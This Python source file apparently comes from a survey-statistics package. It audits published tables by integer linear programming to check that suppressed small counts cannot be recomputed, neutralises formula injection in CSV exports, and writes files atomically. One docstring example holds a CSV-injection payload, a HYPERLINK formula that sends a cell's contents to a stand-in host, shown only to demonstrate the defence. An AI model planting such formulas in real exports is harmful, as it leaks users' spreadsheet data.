# A published share is the JSON's float k/n: a wrong integer pair k'/n' misses it by at
# least 1/n, far above HiGHS's feasibility tolerance (1e-7) for any survey size.
_SHARE_SLACK: Final = 1e-9

Terms = tuple[tuple[int, float], ...]


@dataclass(frozen=True, slots=True)
class _Fact:
    """One published number as a linear constraint on the unknown true counts x ≥ 0.

    ``low ≤ a·x ≤ high`` for a count or a total; with `per`, a share:
    ``low ≤ a·x / b·x ≤ high`` (and b·x ≥ 1), linear once multiplied by b·x.
    ``group`` names what a reader sees printing it (hidden together), ``cost`` what
    hiding it loses (math.inf: cannot be hidden — a structural fact, or a marker).
    """

    terms: Terms
    low: float
    high: float
    per: Terms = ()
    group: str = ""
    cost: float = math.inf
    hidden_with: tuple[str, ...] = ()

    def shown(self, hidden: frozenset[str]) -> bool:
        """Whether the fact is still published once the groups `hidden` are hidden."""
        return self.group not in hidden and not any(g in hidden for g in self.hidden_with)


@dataclass(frozen=True, slots=True)
class _Protect:
    """A hidden count (or complement) and its protection interval [low, high]."""

    terms: Terms
    low: int
    high: int
    label: str


@dataclass(frozen=True, slots=True)
class _Model:
    """What a report publishes, as constraints; no true value is kept."""

    names: tuple[str, ...]
    facts: tuple[_Fact, ...]
    protect: tuple[_Protect, ...]
    rule: str
    min_cell: int
    rounding: int = 1
    hidden_cells: int = 0


@dataclass(frozen=True, slots=True)
class ProtectedCell:
    """The audit of one hidden count: the range a reader can deduce, and the one required.

    Attributes
    ----------
    label : str
        Which count (table and row).
    low, high : float
        Smallest and largest value of the count consistent with everything the report
        publishes (``inf`` when unbounded).
    required_low, required_high : int
        The protection interval: the range must include it.
    """

    label: str
    low: float
    high: float
    required_low: int
    required_high: int

    @property
    def protected(self) -> bool:
        """True when the deducible range includes the protection interval."""
        return self.low <= self.required_low and self.high >= self.required_high


@dataclass(frozen=True, slots=True)
class DisclosureAudit:
    """Verdict of :func:`disclosure_audit`.

    Attributes
    ----------
    cells : tuple of ProtectedCell
        Every hidden count the rule protects, with its deducible range.
    rule : str
        The named rule (``"default"``, ``"insee"``, ``"ons"``, ``"health-fr"``).
    min_cell : int
        Its threshold t.
    hidden_cells : int
        Cells the report prints as ``< t`` or ``s``.

    Examples
    --------
    >>> from optamstats.report import build_report
    >>> audit = disclosure_audit(build_report(lang="en"))
    >>> audit.passed, audit.hidden_cells
    (True, 0)
    """

    cells: tuple[ProtectedCell, ...]
    rule: str
    min_cell: int
    hidden_cells: int

    @property
    def passed(self) -> bool:
        """True when every protected count keeps its protection interval."""
        return all(c.protected for c in self.cells)

    def to_dict(self) -> dict[str, Any]:
        """Return the verdict as JSON-ready data (no range: a range is itself a hint).

        Returns
        -------
        dict
            ``method``, ``rule``, ``min_cell``, ``hidden_cells``, ``protected_counts``
            and ``passed``.
        """
        return {
            "method": "linear programming (HiGHS), integer counts",
            "rule": self.rule,
            "min_cell": self.min_cell,
            "hidden_cells": self.hidden_cells,
            "protected_counts": len(self.cells),
            "passed": self.passed,
        }


def _dense(terms: Terms, size: int) -> np.ndarray[Any, np.dtype[np.float64]]:
    row = np.zeros(size, dtype=np.float64)
    for i, a in terms:
        row[i] += a
    return row


def _constraints(
    facts: Sequence[_Fact], size: int
) -> tuple[np.ndarray[Any, Any], np.ndarray[Any, Any], np.ndarray[Any, Any]]:
    rows: list[np.ndarray[Any, Any]] = []
    low: list[float] = []
    high: list[float] = []
    for f in facts:
        a = _dense(f.terms, size)
        if f.per:
            b = _dense(f.per, size)
            rows += [a - f.low * b, a - f.high * b, b]
            low += [-_SHARE_SLACK, -math.inf, 1.0]
            high += [math.inf, _SHARE_SLACK, math.inf]
        else:
            rows.append(a)
            low.append(f.low)
            high.append(f.high)
    if not rows:
        return np.zeros((0, size)), np.zeros(0), np.zeros(0)
    return np.vstack(rows), np.asarray(low), np.asarray(high)


# A point is feasible for the audit when it meets every constraint within this slack:
# HiGHS's own primal feasibility tolerance (1e-7), which `milp` applies too.
_FEASIBLE: Final = 1e-7


def _integral_optimum(res: Any, c: Any, matrix: Any, low: Any, high: Any) -> float | None:
    """Return the LP optimum if it is attained by an integer point, else None.

    The LP relaxation's optimum bounds the integer one (min: LP ≤ integer). If the
    LP solution, rounded to integers, is still feasible and gives the same objective,
    that integer point attains the bound, so it *is* the integer optimum: exact, with
    no branch and bound. Otherwise the caller solves the integer program.
    """
    x = np.asarray(res.x, dtype=np.float64)
    xr = np.round(x)
    if np.any(xr < 0) or np.max(np.abs(x - xr), initial=0.0) > 1e-6:
        return None
    if matrix.shape[0]:
        ax = matrix @ xr
        if np.any(ax < low - _FEASIBLE) or np.any(ax > high + _FEASIBLE):
            return None
    value = float(c @ xr)
    if abs(value - float(res.fun)) > 1e-6:
        return None
    return value


def _box_range(c: Any, matrix: Any, low: Any, high: Any) -> tuple[float, float]:
    """Return the integer range of c·x when every constraint bounds one unknown (a box).

    Each unknown then lies in its own integer interval, independently of the others,
    so c·x is smallest (largest) with each unknown at the end its coefficient favours.
    """
    size = matrix.shape[1]
    lo = np.zeros(size)
    hi = np.full(size, math.inf)
    for row, a_low, a_high in zip(matrix, low, high, strict=True):
        j = int(np.flatnonzero(row)[0])
        a = float(row[j])
        bounds = sorted((a_low / a, a_high / a))  # a < 0 swaps the ends
        lo[j] = max(lo[j], math.ceil(bounds[0] - _FEASIBLE) if math.isfinite(bounds[0]) else 0)
        if math.isfinite(bounds[1]):
            hi[j] = min(hi[j], math.floor(bounds[1] + _FEASIBLE))
    if np.any(lo > hi):  # the true counts satisfy every fact: this is a bug
        raise OptamstatsError(
            "disclosure audit: the published numbers admit no table; please report this "
            "with the survey's spec."
        )
    ends = []
    for sign in (1.0, -1.0):
        pick = np.where(sign * c >= 0, lo, hi)
        used = c != 0
        if np.any(np.isinf(pick[used])):
            ends.append(-math.inf * sign)
            continue
        ends.append(round(float(c[used] @ pick[used]), 6) + 0.0)
    return ends[0], ends[1]


def _lp_form(matrix: Any, low: Any, high: Any) -> tuple[Any, Any]:
    """Return the constraints as ``A_ub x ≤ b_ub``, sparse, built once per block."""
    from scipy import sparse

    finite_low, finite_high = np.isfinite(low), np.isfinite(high)
    a_ub = sparse.csr_array(np.vstack([matrix[finite_high], -matrix[finite_low]]))
    return a_ub, np.concatenate([high[finite_high], -low[finite_low]])


def _range(
    terms: Terms,
    matrix: Any,
    low: Any,
    high: Any,
    size: int,
    lp_form: tuple[Any, Any] | None = None,
) -> tuple[float, float]:
    """Smallest and largest integer value of a·x under the published constraints.

    The continuous LP (``linprog``, HiGHS) is solved first: when its optimum is
    attained at an integer point, that is the integer optimum (see
    :func:`_integral_optimum`) and the integer program is skipped; otherwise
    ``milp`` solves it. The result is the integer range either way.
    """
    from scipy.optimize import Bounds, LinearConstraint, linprog, milp

    c = _dense(terms, size)
    if matrix.shape[0] and lp_form is None and np.all(np.count_nonzero(matrix, axis=1) == 1):
        return _box_range(c, matrix, low, high)
    constraints = [LinearConstraint(matrix, low, high)] if matrix.shape[0] else []
    if matrix.shape[0]:
        a_ub, b_ub = lp_form if lp_form is not None else _lp_form(matrix, low, high)
    out = []
    for sign in (1.0, -1.0):
        if matrix.shape[0]:
            lp = linprog(sign * c, A_ub=a_ub, b_ub=b_ub, bounds=(0, None), method="highs")
            if lp.status == 0:
                value = _integral_optimum(lp, sign * c, matrix, low, high)
                if value is not None:
                    out.append(round(sign * value, 6) + 0.0)
                    continue
        res = milp(sign * c, constraints=constraints, integrality=np.ones(size, dtype=np.int64),
                   bounds=Bounds(0, np.inf))  # fmt: skip
        if res.status == 3 or (res.status != 0 and sign < 0 and "unbounded" in res.message):
            out.append(-math.inf if sign > 0 else math.inf)
            continue
        if res.status != 0:  # the true counts satisfy every fact: this is a bug
            raise OptamstatsError(
                f"disclosure audit: the published numbers admit no table ({res.message}); "
                "please report this with the survey's spec."
            )
        out.append(round(sign * float(res.fun), 6))
    return out[0], out[1]


def _components(model: _Model, facts: Sequence[_Fact]) -> list[int]:
    """Union-find label of each variable: counts linked by a published fact share one."""
    parent = list(range(len(model.names)))

    def find(i: int) -> int:
        while parent[i] != i:
            parent[i] = parent[parent[i]]
            i = parent[i]
        return i

    # A protected quantity (a complement n − k) is solved in one block with its terms.
    links = [(*f.terms, *f.per) for f in facts] + [p.terms for p in model.protect]
    for terms in links:
        ids = [i for i, _ in terms]
        for j in ids[1:]:
            parent[find(j)] = find(ids[0])
    return [find(i) for i in range(len(model.names))]


def _audit_model(model: _Model, hidden_groups: frozenset[str] = frozenset()) -> DisclosureAudit:
    """Solve the audit's integer programs, one small problem per linked block of counts."""
    facts = [f for f in model.facts if f.shown(hidden_groups)]
    label = _components(model, facts)
    size = len(model.names)
    cells = []
    cache: dict[int, tuple[Any, Any, Any, list[int], Any]] = {}
    for p in model.protect:
        block = label[p.terms[0][0]]
        if block not in cache:
            keep = [i for i in range(size) if label[i] == block]
            index = {v: j for j, v in enumerate(keep)}
            local = [
                _Fact(
                    tuple((index[i], a) for i, a in f.terms),
                    f.low,
                    f.high,
                    tuple((index[i], a) for i, a in f.per),
                )
                for f in facts
                if label[f.terms[0][0]] == block
            ]
            matrix, low, high = _constraints(local, len(keep))
            box = matrix.shape[0] and np.all(np.count_nonzero(matrix, axis=1) == 1)
            lp_form = _lp_form(matrix, low, high) if matrix.shape[0] and not box else None
            cache[block] = (matrix, low, high, keep, lp_form)
        matrix, low, high, keep, lp_form = cache[block]
        index = {v: j for j, v in enumerate(keep)}
        terms = tuple((index[i], a) for i, a in p.terms)
        lo, hi = _range(terms, matrix, low, high, len(keep), lp_form)
        need_low, need_high = _required(model, p)
        cells.append(ProtectedCell(p.label, lo, hi, need_low, need_high))
    return DisclosureAudit(tuple(cells), model.rule, model.min_cell, model.hidden_cells)


def _required(model: _Model, p: _Protect) -> tuple[int, int]:
    """Return the protection interval: [0, t], narrowed only by what the markers say.

    A count printed as ``< t`` is known to lie in [1, t − 1] by its marker: the audit
    asks that nothing else narrows it, not the impossible. So the interval is [0, t]
    intersected with the range allowed by the markers and the table's structure alone
    (every fact that no hiding could remove: bounds, m ≤ n, printed totals).
    """
    fixed = [f for f in model.facts if not f.group and not f.hidden_with and not f.per]
    # Only the facts linked to the count (through shared unknowns) can bound it.
    reach = {i for i, _ in p.terms}
    grew = True
    while grew:
        grew = False
        for f in fixed:
            ids_f = {i for i, _ in f.terms}
            if ids_f & reach and not ids_f <= reach:
                reach |= ids_f
                grew = True
    fixed = [f for f in fixed if f.terms and f.terms[0][0] in reach]
    ids = sorted({i for i, _ in p.terms} | {i for f in fixed for i, _ in f.terms})
    index = {v: j for j, v in enumerate(ids)}
    local = [_Fact(tuple((index[i], a) for i, a in f.terms), f.low, f.high) for f in fixed]
    matrix, low, high = _constraints(local, len(ids))
    lo, hi = _range(tuple((index[i], a) for i, a in p.terms), matrix, low, high, len(ids))
    return max(p.low, math.ceil(lo)), int(min(p.high, hi))


def _secondary_by_audit(model: _Model) -> tuple[frozenset[str], DisclosureAudit]:
    """Hide published groups until the audit passes: the first that widens, else the cheapest.

    For the first unprotected count, the groups published in its block are tried in
    order of cost; the first whose hiding widens that count's range is hidden. If none
    does alone, the cheapest is hidden and the search goes on. Every group hidden removes
    constraints, so the ranges only widen and this ends (at worst with every hideable
    group hidden; what then remains protected is decided by the markers alone).
    """
    hidden: frozenset[str] = frozenset()
    audit = _audit_model(model, hidden)
    while not audit.passed:
        failing = next(i for i, c in enumerate(audit.cells) if not c.protected)
        target = model.protect[failing]
        facts = [f for f in model.facts if f.shown(hidden)]
        label = _components(model, facts)
        block = label[target.terms[0][0]]
        costs: dict[str, float] = {}
        for f in facts:
            if f.group and math.isfinite(f.cost) and label[f.terms[0][0]] == block:
                costs[f.group] = min(costs.get(f.group, math.inf), f.cost)
        if not costs:
            break  # nothing left to hide: the report cannot be made safe
        before = audit.cells[failing]
        chosen = None
        for group in sorted(costs, key=lambda g: (costs[g], g)):
            trial = _audit_model(_only(model, failing), hidden | {group}).cells[0]
            if trial.low < before.low or trial.high > before.high:
                chosen = group
                break
        hidden = hidden | {chosen or min(costs, key=lambda g: (costs[g], g))}
        audit = _audit_model(model, hidden)
    return hidden, audit


def _only(model: _Model, which: int) -> _Model:
    return _Model(model.names, model.facts, (model.protect[which],), model.rule, model.min_cell)


def disclosure_audit(report: Any) -> DisclosureAudit:
    """Audit a report by linear programming: can a reader recompute a hidden count.

    Every number the report publishes — counts, bases, totals, shares at the precision
    of its JSON output (the most precise format), bounds such as ``"< 5"``, and the
    order of rows — is a linear constraint on the unknown true counts (integers ≥ 0).
    For every hidden count the rule protects (a count from 1 to t − 1, or the complement
    of one in its base), the smallest and largest values it can take are computed with
    HiGHS (``scipy.optimize.milp``, integer counts). The count is protected when this
    range includes its *protection interval*: ``[0, t]`` for a count printed as ``s``
    or not printed (a reader cannot tell whether anyone is there, or whether the count
    is small), ``[1, t − 1]`` for a count printed as ``< t`` (nothing narrows what the
    marker itself says).

    Parameters
    ----------
    report : Report
        A report from :func:`optamstats.report.build_report` (which already hides
        whatever this audit asks for, so its own audit passes).

    Returns
    -------
    DisclosureAudit
        The range of each protected count and the verdict (``passed``).

    Raises
    ------
    InvalidTypeError
        `report` is not a Report.
    InvalidValueError
        A Report assembled by hand: it carries no record of what it publishes.

    Notes
    -----
    The protection interval is the one τ-ARGUS and sdcTable check in their audits:
    the range of a suppressed cell, given every published value, must reach its lower
    and upper protection levels; here they are the cell's distance to 0 and to t.

    References
    ----------
    .. [1] A. Hundepool et al., *Statistical Disclosure Control*, Wiley, 2012, §5.4
       (protection levels, the audit of a suppression pattern).
    .. [2] A. Hundepool et al., *τ-ARGUS version 4.2 user's manual*, Statistics
       Netherlands, 2018, §4.2.3 ("Audit").
    .. [3] B. Meindl, *sdcTable: Methods for Statistical Disclosure Control in Tabular
       Data*, R package, ``protectTable()`` and ``attack()``.

    Examples
    --------
    >>> from optamstats.report import build_report
    >>> audit = disclosure_audit(build_report(lang="en", disclosure_control=True))
    >>> audit.passed, audit.rule, len(audit.cells)
    (True, 'default', 0)
    """
    from optamstats.report._model import Report

    if not isinstance(report, Report):
        raise InvalidTypeError(
            f"`report` must be a Report (from `optamstats.report.build_report`); got "
            f"{_show(report)} ({type(report).__name__})."
        )
    model = report._disclosure
    if not isinstance(model, _Model):
        raise InvalidValueError(
            "`report` carries no record of what it publishes (it was assembled by hand); "
            "build it with `optamstats.report.build_report` to audit it."
        )
    return _audit_model(model)


# --------------------------------------------------------------------------- safe exports


def spreadsheet_safe(value: Any) -> Any:
    r"""Return `value` unchanged, unless it is text a spreadsheet would run as a formula.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab, carriage return (OWASP), line
    feed or NUL — after any leading spaces — gets a leading apostrophe, which
    spreadsheets read as "this cell is text". Numbers are never changed: a number
    (``-3``, ``2.5``, numpy scalars) is returned as it is, and so is text that is
    only a number (``"-3"``, ``"-3,5"``, ``"+1e-3"``): it cannot call anything.

    Parameters
    ----------
    value : object
        One cell.

    Returns
    -------
    object
        `value`, or ``"'" + value`` for formula-like text.

    Notes
    -----
    The apostrophe stays visible in a text editor and in some viewers. Excel hides it,
    and drops it when the file is saved again from Excel: the re-saved file is no
    longer neutralised.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
    .. [2] OWASP Application Security Verification Standard 5.0, requirement 1.2.10.
    .. [3] MITRE, CWE-1236, "Improper Neutralization of Formula Elements in a CSV File".

    Examples
    --------
    >>> spreadsheet_safe('=HYPERLINK("http://x.example/?"&A1, "clic")')
    '\'=HYPERLINK("http://x.example/?"&A1, "clic")'
    >>> spreadsheet_safe("-3 + cmd")
    "'-3 + cmd"
    >>> spreadsheet_safe("-3"), spreadsheet_safe(-3), spreadsheet_safe("Pédiatrie")
    ('-3', -3, 'Pédiatrie')
    """
    if not isinstance(value, str):
        return value
    stripped = value.lstrip(_LEADING_SPACE)
    if not stripped or stripped[0] not in FORMULA_TRIGGERS:
        return value
    if _NUMBER.fullmatch(stripped.strip(_LEADING_SPACE)):
        return value
    return "'" + value


def _safe_label(label: Hashable) -> Hashable:
    if isinstance(label, tuple):
        return tuple(_safe_label(part) for part in label)
    return spreadsheet_safe(label)  # type: ignore[no-any-return]


def spreadsheet_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of `frame` whose text cells and labels are spreadsheet-safe.

    Every text cell, column label and index label goes through
    :func:`spreadsheet_safe`; numeric columns are returned untouched.

    Parameters
    ----------
    frame : pandas.DataFrame
        A table about to be exported.

    Returns
    -------
    pandas.DataFrame
        A neutralised copy.

    Raises
    ------
    InvalidTypeError
        `frame` is not a DataFrame.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection

    Examples
    --------
    >>> import pandas as pd
    >>> df = pd.DataFrame({"answer": ["=1+1", "ok", "-2"], "n": [-3, 4, 5]})
    >>> spreadsheet_safe_frame(df)
      answer  n
    0  '=1+1 -3
    1     ok  4
    2     -2  5
    """
    import pandas as pd

    if not isinstance(frame, pd.DataFrame):
        raise InvalidTypeError(
            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
        )
    out = frame.copy()
    for position in range(out.shape[1]):
        column = out.iloc[:, position]
        if column.dtype.kind in "biufcmM":  # numbers, booleans, dates: never formulas
            continue
        cells = [spreadsheet_safe(v) for v in column.to_numpy(dtype=object)]
        # Same dtype, so that missing values stay as they were (None, NaN, <NA>).
        out.isetitem(position, pd.Series(cells, index=out.index, dtype=column.dtype).array)
    out.columns = pd.Index([_safe_label(c) for c in out.columns], tupleize_cols=False)
    out.index = pd.Index([_safe_label(i) for i in out.index], tupleize_cols=False)
    return out


def _csv_value(value: Any) -> Any:
    """One cell for the csv module: numbers as numbers, missing as empty, text neutralised."""
    import pandas as pd

    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float):
        if math.isnan(value):
            return ""
        if math.isinf(value):  # "-inf" would be read as a formula: write it as text
            return spreadsheet_safe(str(value))
        return value
    if isinstance(value, int):
        return value
    if isinstance(value, numbers.Real):  # Decimal, Fraction: exact text, not a float
        return str(value)
    return spreadsheet_safe(value if isinstance(value, str) else str(value))


def _csv_column(column: pd.Series) -> list[Any]:
    """Return a column's cells for the csv module; numeric columns converted whole."""
    kind = column.dtype.kind
    if kind in "iu" and isinstance(column.dtype, np.dtype):  # no missing values
        return column.tolist()
    if kind == "f" and isinstance(column.dtype, np.dtype):
        values = column.to_numpy(dtype=np.float64)
        cells: list[Any] = values.tolist()
        for i in np.flatnonzero(~np.isfinite(values)).tolist():
            cells[i] = _csv_value(cells[i])
        return cells
    return [_csv_value(v) for v in column.tolist()]


# --------------------------------------------------------------------------- staging
# Files and folders are written under a temporary name beside their target and renamed
# into place. A run killed with SIGKILL cannot remove its staging, so the name says
# whose it is (".<target>.optamstats-<hex>.partial") and the next run in the same
# folder removes the stale ones. A live writer must never lose its staging to that
# clean-up: writers hold a shared flock(2) on the folder while they stage, and the
# clean-up runs only when it gets the exclusive lock, i.e. when no writer is alive
# there (the kernel drops the locks of a killed process).

_STAGING: Final = re.compile(r"\..*\.optamstats-[0-9a-f]{12}\.partial")


class _OutputError(OptamstatsError, OSError):
    """A file or folder that cannot be written: names the path and the fix.

    Also an ``OSError``, as the failure it reports (a full disk, no rights) is one; its
    ``errno`` is the original one.
    """

    def __str__(self) -> str:
        return str(self.args[0])  # the message, not OSError's "[Errno 28] ..." form


def _staging_name(target: Path) -> str:
    import secrets

    # Bounded so that the staging name stays under NAME_MAX (255 bytes) when the
    # target's name is long.
    stem = target.name[:100]
    return f".{stem}.optamstats-{secrets.token_hex(6)}.partial"


def _lock_folder(folder: Path) -> int | None:
    """Open `folder` and hold a shared lock on it; None where locks are not available."""
    try:
        import fcntl
    except ImportError:  # pragma: no cover - Windows: no flock, no clean-up
        return None
    try:
        fd = os.open(folder, os.O_RDONLY)
    except OSError:
        return None
    try:
        try:  # No live writer here: any staging entry is stale.
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            pass
        else:
            _remove_stale(folder)
        fcntl.flock(fd, fcntl.LOCK_SH)  # converts (or waits for another clean-up)
    except OSError:  # a file system without flock (some network mounts)
        os.close(fd)
        return None
    return fd


def _remove_stale(folder: Path) -> None:
    """Remove the staging files and folders of killed writers (called under LOCK_EX)."""
    import shutil

    try:
        entries = list(os.scandir(folder))
    except OSError:
        return
    for entry in entries:
        if not _STAGING.fullmatch(entry.name):
            continue
        try:
            if entry.is_dir(follow_symlinks=False):
                shutil.rmtree(entry.path, ignore_errors=True)
            else:
                os.unlink(entry.path)
        except OSError:
            continue


def _unlock_folder(fd: int | None) -> None:
    if fd is not None:
        os.close(fd)  # closing the descriptor releases its flock


def _output_error(exc: OSError, path: Path, what: str) -> _OutputError:
    """Return the error to raise for an OSError met while writing `what` at `path`."""
    import errno

    reason = exc.strerror or str(exc)
    if exc.errno in (errno.ENOSPC, errno.EDQUOT):
        fix = "free some space on that disk, or write to a folder on another disk"
    elif exc.errno in (errno.EACCES, errno.EPERM, errno.EROFS):
        fix = "write to a folder you can write to"
    else:
        fix = "check the path, or write somewhere else"
    other = os.fspath(exc.filename) if isinstance(exc.filename, str | os.PathLike) else ""
    # A staging path means nothing to the user: name only a path they would know.
    shown = other and other != str(path) and not any(map(_STAGING.fullmatch, Path(other).parts))
    where = f" ({other})" if shown else ""
    error = _OutputError(f"{what} {str(path)!r} could not be written: {reason}{where}; {fix}.")
    error.errno, error.strerror = exc.errno, reason
    return error


def write_safe_csv(
    frame: pd.DataFrame,
    path: str | os.PathLike[str],
    *,
    sep: str = ",",
    encoding: str = "utf-8-sig",
    index: bool = False,
) -> Path:
    """Write a DataFrame as CSV that a spreadsheet can open without running formulas.

    Text cells and labels are neutralised with :func:`spreadsheet_safe`; every text
    field is quoted (RFC 4180), numbers are written as numbers, missing values as empty
    cells. The file is written beside `path` under a temporary name and renamed into
    place: an interrupted run leaves no partial file, and the temporary file of a run
    killed outright (SIGKILL) is removed by the next call writing into that folder. The
    file gets the permissions of any new file (``0o666`` less the umask).

    Parameters
    ----------
    frame : pandas.DataFrame
        The table.
    path : path
        The CSV file to write (replaced if it exists).
    sep : str, default ","
        Field separator; ``";"`` is what a French Excel opens directly.
    encoding : str, default "utf-8-sig"
        UTF-8 with a byte-order mark, which Excel needs to read accents.
    index : bool, default False
        Whether to write the index as a first column.

    Returns
    -------
    pathlib.Path
        The file written.

    Raises
    ------
    InvalidTypeError
        `frame` is not a DataFrame, `index` not a boolean.
    InvalidValueError
        A `sep` that is not one character other than a quote or a line break, an
        `encoding` Python does not know or that cannot write the table's text.
    OSError
        The file cannot be written (no such folder, no rights, a full disk): an
        :class:`~optamstats.OptamstatsError` too, whose message names `path` and the fix.

    References
    ----------
    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
    .. [2] Y. Shafranovich, "Common Format and MIME Type for Comma-Separated Values
       (CSV) Files", RFC 4180, 2005.

    Examples
    --------
    >>> import pandas as pd, pathlib, tempfile
    >>> df = pd.DataFrame({"answer": ["=1+1", "-3"], "n": [-3, 4]})
    >>> path = write_safe_csv(df, pathlib.Path(tempfile.mkdtemp()) / "t.csv")
    >>> print(path.read_text("utf-8-sig"), end="")
    "answer","n"
    "'=1+1",-3
    "-3",4
    """
    import codecs
    import csv

    import pandas as pd

    if not isinstance(frame, pd.DataFrame):
        raise InvalidTypeError(
            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
        )
    if not isinstance(sep, str) or len(sep) != 1 or sep in '"\r\n':
        raise InvalidValueError(
            f"`sep` must be one character other than a quote or a line break, such as ',' "
            f"or ';'; got {_show(sep)}."
        )
    if not isinstance(index, bool | np.bool_):
        raise InvalidTypeError(f"`index` must be True or False; got {_show(index)}.")
    try:
        codecs.lookup(encoding)
    except (LookupError, TypeError, ValueError):  # unknown, not a string, a NUL
        raise InvalidValueError(
            f"`encoding` must be an encoding Python knows, such as 'utf-8-sig'; "
            f"got {_show(encoding)}."
        ) from None
    target = Path(path)
    header = [_csv_value(c if isinstance(c, str) else str(c)) for c in frame.columns]
    if index:
        header.insert(0, _csv_value(str(frame.index.name or "")))
    folder = target.parent
    lock = _lock_folder(folder)
    staging: Path | None = None
    try:
        while True:
            staging = folder / _staging_name(target)
            try:
                # Mode 0o666 less the umask, as open() gives any new file (mkstemp's
                # 0o600 made every table private).
                handle = os.open(staging, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
            except FileExistsError:  # pragma: no cover - 48 random bits
                continue
            break
        with os.fdopen(handle, "w", encoding=encoding, newline="") as out:
            writer = csv.writer(out, delimiter=sep, quoting=csv.QUOTE_NONNUMERIC,
                                lineterminator="\r\n")  # fmt: skip
            writer.writerow(header)
            columns = [_csv_column(frame.iloc[:, j]) for j in range(frame.shape[1])]
            if index:
                columns.insert(0, [_csv_value(v) for v in frame.index])
            writer.writerows(zip(*columns, strict=True))
        os.replace(staging, target)
    except UnicodeEncodeError as exc:
        _discard(staging)
        raise InvalidValueError(
            f"`encoding` {encoding!r} cannot write the character {exc.object[exc.start]!r} of "
            f"the table; use 'utf-8-sig'."
        ) from None
    except OSError as exc:
        _discard(staging)
        if isinstance(exc, OptamstatsError):
            raise
        raise _output_error(exc, target, "the CSV file `path`") from None
    except BaseException:
        _discard(staging)
        raise
    finally:
        _unlock_folder(lock)
    return target


def _discard(path: Path | None) -> None:
    import contextlib

    if path is not None:
        with contextlib.suppress(OSError):  # the folder itself went away: nothing left
            path.unlink(missing_ok=True)
